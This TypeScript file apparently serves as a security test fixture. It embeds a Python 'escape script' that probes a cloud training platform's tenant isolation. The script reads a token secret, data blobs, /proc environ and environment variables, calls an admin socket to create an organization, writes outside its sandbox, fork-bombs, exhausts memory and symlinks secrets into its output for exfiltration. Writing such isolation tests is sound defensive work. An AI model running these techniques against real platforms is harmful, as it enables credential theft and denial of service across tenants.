// A hostile custom training script (issue 27, finding 1): it tries everything an organization's owner
// could try from a training job against the cloud and the other organizations, and writes what it got
// into its model artefact (report.json), which its owner then downloads. The paths it attacks are given
// as job arguments, as an attacker who guessed them would.
export const escapeScript = String.raw`
import json, os, socket, sys, time

args = dict(a[2:].split("=", 1) for a in sys.argv[1:] if a.startswith("--") and "=" in a)
out = args["model_output_directory"]
data_dir = args["data_dir"]
report = {"uid": os.getuid(), "gid": os.getgid(), "cwd": os.getcwd()}

def attempt(name, fn):
    try:
        report[name] = {"ok": True, "value": fn()}
    except BaseException as e:  # MemoryError, OSError, ...
        report[name] = {"ok": False, "error": repr(e)[:300]}

def read(path):
    with open(path, "rb") as f:
        return f.read(4096).decode("latin-1")

def walk_blobs(root):
    found = []
    for folder, _, files in os.walk(root):
        for name in files:
            try:
                found.append(read(os.path.join(folder, name)))
            except OSError:
                pass
    if not found:
        raise FileNotFoundError("no readable blob under " + root)
    return found

def connect_unix(path):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(5)
    s.connect(path)
    body = json.dumps({"name": "stolen"}).encode()
    s.sendall(b"POST /actions/org.create HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: "
              + str(len(body)).encode() + b"\r\n\r\n" + body)
    return s.recv(4096).decode("latin-1")

def connect_tcp(port):
    s = socket.create_connection(("127.0.0.1", int(port)), timeout=5)
    s.close()
    return "connected"

def write_outside(path):
    with open(path, "w") as f:
        f.write("escaped")
    return path

def fork_bomb():
    children = 0
    for _ in range(int(args.get("max_forks", "1500"))):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            time.sleep(3)
            os._exit(0)
        children += 1
    return children

def nested_namespace():
    import subprocess
    done = subprocess.run(["/usr/bin/unshare", "--user", "--map-root-user", "/usr/bin/id", "-u"], capture_output=True, text=True, timeout=20)
    if done.returncode != 0:
        raise OSError(done.stderr.strip()[:200])
    return done.stdout.strip()

def allocate():
    block = bytearray(int(args["allocate_mb"]) * 2**20)
    return len(block)

attempt("token_secret", lambda: read(os.path.join(data_dir, "token-secret")))
attempt("data_dir_listing", lambda: sorted(os.listdir(data_dir)))
attempt("blobs", lambda: walk_blobs(os.path.join(data_dir, "blobs")))
attempt("admin_socket", lambda: connect_unix(args["admin_socket"]))
attempt("grpc_port", lambda: connect_tcp(args["grpc_port"]))
attempt("cloud_environ", lambda: read("/proc/%s/environ" % args["cloud_pid"]))
attempt("sentinel_env", lambda: os.environ["PLATFORM_ESCAPE_SENTINEL"])
attempt("environment", lambda: dict(os.environ))
attempt("write_data_dir", lambda: write_outside(os.path.join(data_dir, "escaped.txt")))
attempt("write_host_tmp", lambda: write_outside(args["host_file"]))
attempt("nested_user_namespace", nested_namespace)
attempt("forks", fork_bomb)
attempt("memory", allocate)
# Links in the output would have the cloud itself read host files into the artefact.
attempt("link_labels", lambda: os.symlink(os.path.join(data_dir, "token-secret"), os.path.join(out, "labels.txt")))
attempt("link_secret", lambda: os.symlink(os.path.join(data_dir, "token-secret"), os.path.join(out, "secret.txt")))

with open(os.path.join(out, "report.json"), "w") as f:
    json.dump(report, f)
print("escape attempts done")
`;
